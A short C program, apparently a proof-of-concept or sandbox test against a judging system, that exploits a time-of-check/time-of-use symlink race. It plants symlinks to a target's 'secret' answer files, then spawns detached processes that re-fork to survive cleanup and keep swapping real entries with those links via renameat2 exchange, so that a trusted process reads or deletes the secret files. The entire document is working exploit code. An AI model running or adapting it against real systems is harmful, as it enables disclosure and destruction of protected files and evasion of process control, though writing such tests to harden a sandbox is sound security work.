#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>
int main(void) { /* a daemon swaps a file and a folder with links for ever, the trusted side reads and wipes meanwhile */
    char target[4096] = "", link_to[4200];
    scanf("%4000s", target);
    if (chdir("out")) return 1;
    close(open("file", O_CREAT | O_WRONLY, 0666));
    mkdir("folder", 0777);
    close(open("folder/001.ans", O_CREAT | O_WRONLY, 0666));
    snprintf(link_to, sizeof link_to, "%s/secret/001.ans", target);
    symlink(link_to, "file2");
    snprintf(link_to, sizeof link_to, "%s/secret", target);
    symlink(link_to, "folder2");
    puts("swapping");
    fflush(stdout);
    for (int i = 0; i < 4; i++)
        if (fork() == 0) {
            setsid();
            time_t end = time(0) + 12;
            while (time(0) < end) {
                syscall(SYS_renameat2, AT_FDCWD, "file", AT_FDCWD, "file2", 2);
                syscall(SYS_renameat2, AT_FDCWD, "folder", AT_FDCWD, "folder2", 2);
                if (i & 1 && fork() > 0) _exit(0);
            }
            _exit(0);
        }
    usleep(20000);
}
